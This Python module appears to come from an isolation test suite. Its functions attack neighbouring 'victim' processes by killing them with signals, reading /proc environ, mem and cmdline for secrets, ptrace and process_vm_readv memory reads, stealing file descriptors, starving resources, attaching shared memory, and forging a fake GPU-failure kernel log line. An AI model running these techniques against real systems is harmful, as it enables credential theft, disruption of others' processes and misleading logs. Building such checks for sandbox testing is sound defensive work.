"""Attacks on processes: signals, /proc, tracing, limits."""

import contextlib
import ctypes
import os
import resource
import signal
import struct
import time

from figures.second.base import LIBC, attack, secret, victims


@attack
def signals():
    gained = []
    for pid in victims():
        for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP, signal.SIGUSR1, signal.SIGHUP, signal.SIGCONT):
            with contextlib.suppress(OSError):
                os.kill(pid, number)
                gained.append(f"signal {number} to {pid}")
        with contextlib.suppress(OSError):
            os.killpg(os.getpgid(pid), signal.SIGTERM)
            gained.append(f"signal to the group of {pid}")
    return gained


@attack
def proc_files():
    gained = []
    for pid in victims():
        for name in (
            "environ",
            "mem",
            "maps",
            "auxv",
            "stack",
            "syscall",
            "io",
            "smaps",
            "pagemap",
            "personality",
            "timers",
        ):
            with contextlib.suppress(OSError), open(f"/proc/{pid}/{name}", "rb") as f:
                data = f.read(1 << 20)
                gained += secret(data, f"/proc/{pid}/{name}")
                if name in ("environ", "mem", "maps") and data:
                    gained.append(f"/proc/{pid}/{name}: readable")
        for name in ("cwd", "root", "exe"):
            with contextlib.suppress(OSError):
                os.listdir(f"/proc/{pid}/{name}/")
                gained.append(f"/proc/{pid}/{name}: entered")
        with contextlib.suppress(OSError):
            os.listdir(f"/proc/{pid}/map_files")
            gained.append(f"/proc/{pid}/map_files: listed")
    return gained


@attack
def proc_descriptors():
    gained = []
    for pid in victims():
        for fd in range(64):
            for flags in (os.O_RDONLY, os.O_WRONLY):
                with contextlib.suppress(OSError):
                    os.close(os.open(f"/proc/{pid}/fd/{fd}", flags | os.O_NONBLOCK))
                    gained.append(f"/proc/{pid}/fd/{fd}: opened")
    return gained


@attack
def command_lines():
    gained = []
    for pid in victims():
        with contextlib.suppress(OSError), open(f"/proc/{pid}/cmdline", "rb") as f:
            gained += secret(f.read(), f"/proc/{pid}/cmdline")
    return gained


@attack
def proc_writes():
    gained = []
    for pid in victims():
        for name, text in (
            ("oom_score_adj", "1000"),
            ("comm", "x"),
            ("clear_refs", "1"),
            ("coredump_filter", "0"),
            ("mem", "x"),
            ("timerslack_ns", "99"),
            ("sched", "0"),
            ("autogroup", "19"),
        ):
            with contextlib.suppress(OSError):
                with open(f"/proc/{pid}/{name}", "w") as f:
                    f.write(text)
                gained.append(f"/proc/{pid}/{name}: written")
    return gained


@attack
def trace():
    gained = []
    for pid in victims():
        for request in (16, 0x4206):
            if LIBC.ptrace(request, pid, 0, 0) == 0:
                gained.append(f"traces {pid}")
                LIBC.ptrace(17, pid, 0, 0)
        buffer = ctypes.create_string_buffer(8)
        vector = struct.pack("QQ", ctypes.addressof(buffer), 8)
        if LIBC.process_vm_readv(pid, vector, 1, vector, 1, 0) > 0:
            gained.append(f"reads the memory of {pid}")
    return gained


@attack
def take_descriptors():
    gained = []
    for pid in victims():
        handle = LIBC.syscall(434, pid, 0)
        if handle >= 0:
            for fd in range(16):
                got = LIBC.syscall(438, handle, fd, 0)
                if got >= 0:
                    os.close(got)
                    gained.append(f"took descriptor {fd} of {pid}")
            if LIBC.syscall(424, handle, signal.SIGTERM, 0, 0) == 0:
                gained.append(f"signal through a handle to {pid}")
            os.close(handle)
    return gained


@attack
def priorities_and_limits():
    gained = []
    for pid in victims():
        for what in (
            lambda p: os.setpriority(os.PRIO_PROCESS, p, 19),
            lambda p: os.sched_setaffinity(p, {0}),
            lambda p: os.sched_setscheduler(p, os.SCHED_IDLE, os.sched_param(0)),
            lambda p: resource.prlimit(p, resource.RLIMIT_NOFILE, (3, 3)),
            lambda p: resource.prlimit(p, resource.RLIMIT_AS, (1, 1)),
        ):
            with contextlib.suppress(OSError):
                what(pid)
                gained.append(f"changed how {pid} runs")
        if LIBC.syscall(251, 1, pid, (3 << 13)) == 0:
            gained.append(f"changed the input/output class of {pid}")
    return gained


@attack
def many_processes():
    made = []
    with contextlib.suppress(OSError):
        for _ in range(60):
            pid = os.fork()
            if pid == 0:
                time.sleep(5)
                os._exit(0)
            made.append(pid)
    for pid in made:
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGKILL)
            os.waitpid(pid, 0)
    return []


@attack
def system_v_memory():
    gained = []
    for table, column in (("shm", 1), ("sem", 1), ("msg", 1)):
        with contextlib.suppress(OSError):
            with open(f"/proc/sysvipc/{table}") as f:
                rows = f.read().splitlines()[1:]
            for row in rows:
                number = int(row.split()[column])
                if table == "shm" and LIBC.shmat(number, None, 0) != -1:
                    gained.append(f"attached segment {number}")
    return gained


@attack
def false_kernel_lines():
    gained = []
    for path in ("/dev/kmsg", "/dev/log", "/dev/console"):
        with contextlib.suppress(OSError):
            with open(path, "w") as f:
                f.write("<3>NVRM: Xid (PCI:0000:3b:00): 79, pid=1, name=python, GPU has fallen off the bus.")
            gained.append(f"{path}: written")
    return gained
